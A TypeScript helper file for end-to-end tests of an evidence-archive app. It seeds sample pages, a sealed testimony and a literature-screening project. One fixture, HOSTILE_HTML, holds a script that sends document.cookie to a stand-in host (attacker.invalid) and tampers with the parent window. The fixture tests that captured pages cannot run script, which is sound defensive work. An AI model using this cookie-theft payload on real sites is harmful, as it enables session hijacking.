/**
 * Helpers of the end-to-end tests: the Chromium launch, the route modules to serve, and the seed data
 * (evidence uploaded through the API as an analyst; a small screening project when its routes exist).
 */
import { existsSync } from "node:fs";
import type { RouteModule } from "../../src/server/app.js";
import { CHROMIUM_ARGS as SHARED_ARGS, CHROMIUM_PATH, chromiumAvailable } from "../../src/browser/chromium.js";
import type { TestServer } from "../helpers/server.js";

/** The launch flags of the report and the capture (src/browser/chromium.ts). */
export const CHROMIUM_ARGS = [...SHARED_ARGS];

/**
 * Path of Chromium, or null when it is not installed (the e2e suite is then skipped on a developer's
 * machine). In CI (CI=true; .ci/run installs Debian's chromium) a missing browser is an error, not a skip.
 */
export function chromiumPath(): string | null {
  if (chromiumAvailable(CHROMIUM_PATH)) return CHROMIUM_PATH;
  if (process.env.CI === "true" || process.env.CI === "1")
    throw new Error(`CI: ${CHROMIUM_PATH} is missing; the end-to-end tests need Debian's chromium`);
  return null;
}

/**
 * Route modules the app needs, imported by name from src/server/routes/. Until the lead lists a module in
 * ROUTE_MODULES (src/server/app.ts) the test passes it as an extra route; modules not written yet are left out.
 */
export async function e2eRouteModules(): Promise<RouteModule[]> {
  const wanted: [string, string][] = [
    ["findings", "findingsRoutes"],
    ["data", "dataRoutes"],
    ["accounting", "accountingRoutes"],
    ["evidence", "evidenceRoutes"],
    ["claims", "claimsRoutes"],
    ["screening", "screeningRoutes"],
  ];
  const out: RouteModule[] = [];
  for (const [file, name] of wanted) {
    const url = new URL(`../../src/server/routes/${file}.ts`, import.meta.url);
    if (!existsSync(url)) continue;
    const mod = (await import(/* @vite-ignore */ url.href)) as Record<string, unknown>;
    const fn = mod[name];
    if (typeof fn === "function") out.push(fn as RouteModule);
  }
  return out;
}

export interface Seeded {
  /** a traditional-script Chinese page */
  traditional: string;
  /** a hostile HTML page with script */
  hostile: string;
  /** a plain English text */
  english: string;
  /** a testimony with sealed witness fields (WITNESS) */
  sealed: string;
}

/** the sealed witness fields of the seeded testimony: never shown to non-admins */
export const WITNESS = { name: "Witness Zhang Wei", phone: "+86 555 0100" };

export const TRADITIONAL_HTML = `<!doctype html><html lang="zh-Hant"><head><meta charset="utf-8"><title>中國器官移植發展基金會 年度報告</title></head>
<body><h1>中國器官移植發展基金會</h1><p>中國器官移植發展基金會公佈了公民逝世後器官捐獻的年度數據，並說明醫院的移植數量。</p></body></html>`;

/** Script that would mark the app's window, change its title and send the cookie to an attacker. */
export const HOSTILE_HTML = `<!doctype html><html><head><meta charset="utf-8"><title>Hostile capture</title>
<script>window.__pwned = 1; try { parent.__pwned = 1; top.document.title = "PWNED"; } catch (e) {}
fetch("http://attacker.invalid/steal?c=" + encodeURIComponent(document.cookie)); new Image().src = "http://attacker.invalid/img";</script>
</head><body><p>Hostile page body: a captured page that tries to run script.</p>
<img src="http://attacker.invalid/pixel.png" alt=""><iframe src="http://attacker.invalid/frame"></iframe>
<form action="http://attacker.invalid/post" method="post"><input name="x" value="y"></form>
<script>document.body.insertAdjacentHTML("beforeend", "<p id=ran>SCRIPT RAN</p>");</script></body></html>`;

async function upload(
  s: TestServer,
  filename: string,
  type: string,
  language: string,
  mime: string,
  body: string,
  tags?: string,
): Promise<string> {
  const { headers } = await s.login("analyst");
  const q = new URLSearchParams({
    filename,
    type,
    language,
    capturedAt: "2020-01-15T00:00:00Z",
    ...(tags ? { tags } : {}),
  });
  const r = await s.app.inject({
    method: "POST",
    url: `/api/evidence/items?${q}`,
    headers: { ...headers, "content-type": mime },
    payload: Buffer.from(body, "utf8"),
  });
  if (r.statusCode !== 200) throw new Error(`upload ${filename}: ${r.statusCode} ${r.body}`);
  return (r.json() as { id: string }).id;
}

export async function seedEvidence(s: TestServer): Promise<Seeded> {
  const traditional = await upload(
    s,
    "cotdf-annual-report.html",
    "ngo-report",
    "zh-Hant",
    "text/html",
    TRADITIONAL_HTML,
    "foundation,zh",
  );
  const hostile = await upload(s, "hostile.html", "hospital-web-page", "en", "text/html", HOSTILE_HTML, "hostile");
  const english = await upload(
    s,
    "note.txt",
    "other",
    "en",
    "text/plain",
    "Transplant volumes reported by hospital web pages, Tianjin First Central Hospital.\n",
  );
  // witness fields are sealed by the archive (the upload API takes none): added with the library, as the CLI does
  const sealed = (
    await s.ctx.archive.addItem({
      bytes: Buffer.from("testimony transcript (e2e)"),
      filename: "testimony.txt",
      evidenceType: "testimony",
      addedBy: "admin",
      sensitive: WITNESS,
    })
  ).id;
  return { traditional, hostile, english, sealed };
}

/** Three invented records (one Chinese) in RIS, for the screening project of the e2e test. */
export const SCREENING_RIS = `TY  - JOUR
TI  - Outcomes of liver transplantation from deceased donors in a single centre
AB  - We report donor characteristics and graft survival after liver transplantation; donor age and cold ischaemia time were recorded.
AU  - Example, A.
PY  - 2016
KW  - liver transplantation
KW  - donor
ER  - 
TY  - JOUR
TI  - 心脏死亡供体肝移植的临床研究
AB  - 回顾分析供体的来源与受者术后生存情况。
AU  - 张, 三
PY  - 2012
ER  - 
TY  - JOUR
TI  - Cell culture methods for hepatocytes
AB  - An in vitro protocol without any transplantation.
AU  - Other, B.
PY  - 2019
ER  - 
`;

export const SCREENING_RULES = `rule donor in title, abstract:
  "donor*" OR "供体"
`;

/** A screening project created (admin), filled (analyst) and given rules (analyst) through the screening API. */
export async function seedScreening(s: TestServer): Promise<{ projectId: string; recordIds: string[] }> {
  const admin = (await s.login("admin")).headers;
  const analyst = (await s.login("analyst")).headers;
  const created = await s.app.inject({
    method: "POST",
    url: "/api/screening/projects",
    headers: admin,
    payload: { name: "e2e-liver" },
  });
  if (created.statusCode !== 201) throw new Error(`create project: ${created.statusCode} ${created.body}`);
  const projectId = (created.json() as { id: string }).id;
  const base = `/api/screening/projects/${encodeURIComponent(projectId)}`;
  const imp = await s.app.inject({
    method: "POST",
    url: `${base}/imports?filename=e2e.ris`,
    headers: { ...analyst, "content-type": "application/x-research-info-systems" },
    payload: Buffer.from(SCREENING_RIS, "utf8"),
  });
  if (imp.statusCode !== 201) throw new Error(`import: ${imp.statusCode} ${imp.body}`);
  const rules = await s.app.inject({
    method: "PUT",
    url: `${base}/rules`,
    headers: analyst,
    payload: { text: SCREENING_RULES },
  });
  if (rules.statusCode !== 200) throw new Error(`rules: ${rules.statusCode} ${rules.body}`);
  const recs = await s.app.inject({ method: "GET", url: `${base}/records`, headers: analyst });
  const recordIds = (recs.json() as { items: { id: string }[] }).items.map((r) => r.id);
  return { projectId, recordIds };
}
